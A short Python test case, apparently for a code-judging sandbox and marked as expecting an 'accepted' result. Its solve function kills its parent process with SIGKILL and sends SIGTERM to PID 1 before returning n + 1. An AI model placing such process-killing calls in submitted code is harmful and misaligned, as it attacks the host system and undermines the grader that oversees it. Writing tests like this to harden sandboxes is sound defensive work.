# expect: accepted

import os, signal

def solve(n):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(1, signal.SIGTERM)
    return n + 1
